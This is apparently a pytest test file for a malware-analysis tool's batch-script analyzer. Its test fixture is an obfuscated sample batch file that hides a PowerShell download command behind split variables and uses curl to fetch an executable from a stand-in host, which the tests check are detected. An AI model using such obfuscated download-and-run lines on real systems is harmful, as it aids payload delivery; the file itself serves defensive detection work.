"""Batch files and command lines as artifacts."""

import pytest

from sekisho.analyzers._script import FEATURES
from sekisho.analyzers.cmd import analyze, recognise
from sekisho.model.artifact import Artifact, Feature
from sekisho.model.errors import LimitError

BATCH = b"""@echo off\r
setlocal EnableDelayedExpansion\r
set "p=pow"\r
set "q=ershell"\r
%p%%undefined%%q% -nop -c "iwr http://a.example/"\r
:: http://comment.example/x\r
if exist x (\r
  echo hi\r
  start calc.exe\r
) else (\r
  curl http://b.example/ -o %~dp0b.exe\r
)\r
set z=not^\r
epad\r
!z!\r
"""


def read(data, name="a.bat", kind=""):
    return list(analyze(Artifact(name, data, name, kind=kind)))


def values(found, name):
    return [item.value for item in found if isinstance(item, Feature) and item.name == name]


def test_a_batch_file():
    found = read(BATCH)
    assert values(found, "script.language") == ["cmd"]
    assert values(found, "script.tricks") == ["set-variable"]
    calls = values(found, "script.calls")
    assert 'starts powershell -nop -c "iwr http://a.example/"' in calls
    assert "starts calc.exe" in calls
    assert "downloads http://b.example/ to %~dp0b.exe" in calls
    assert "starts notepad" in calls
    assert {url.host for url in values(found, "url")} == {"a.example", "b.example", "comment.example"}
    (child,) = [item for item in found if isinstance(item, Artifact)]
    assert (child.kind, child.relation) == ("powershell", "decoded")
    assert {item.name for item in found if isinstance(item, Feature)} <= set(FEATURES)


def test_a_downloader_and_a_document_start_nothing():
    calls = values(read(b"@echo off\r\ncurl -o a.csv http://a.example/a.csv\r\nexcel.exe a.csv\r\n"), "script.calls")
    assert [call for call in calls if call.startswith("starts")] == []
    assert "starts excel.exe a.xlsm" in values(read(b"@echo off\r\nexcel.exe a.xlsm\r\n"), "script.calls")


def test_one_command_line_by_kind():
    found = read(b"cmd /c %x% http://a.example/", name="arguments", kind="cmd")
    assert values(found, "script.unfolded") == ["cmd /c %x% http://a.example/"]  # unknown stays on a command line


def test_utf_16_is_read():
    assert "starts calc" in values(read("@echo off\r\nca^lc\r\n".encode("utf-16")), "script.calls")


@pytest.mark.parametrize(
    ("name", "data", "is_batch"),
    [
        ("a.bat", BATCH, True),
        ("unknown", BATCH, True),
        ("a.cmd", b"start calc.exe", True),
        ("a.txt", b"Dear all,\nplease call me.\nset a date\n", False),
        ("a.txt", b"Copy the file.\nCall us now\nRem tene\nGoto the page", False),
        ("a.html", b"<html>@echo off</html>", False),
        ("a.bin", bytes(200), False),
        ("a.ps1", b"$a = 1\nWrite-Host $a\n", False),
        ("a.bat", b"", False),
        ("mail.eml", b"From: a@partner.example\nSubject: x\n\n" + BATCH, False),
        ("a.bat", b"From: x\nSubject: y\n" + BATCH, True),
    ],
)
def test_recognised_by_content(name, data, is_batch):
    assert recognise(Artifact(name, data, name)) is is_batch


def test_a_limit_is_raised_after_what_was_read():
    data = b"@echo off\nset a=" + b"x" * 20_000 + b"\n" + b"echo %a%%a%%a%\n" * 200
    features = analyze(Artifact("a.bat", data, "a.bat"))
    assert next(features) == Feature("script.language", "cmd")
    with pytest.raises(LimitError):
        list(features)
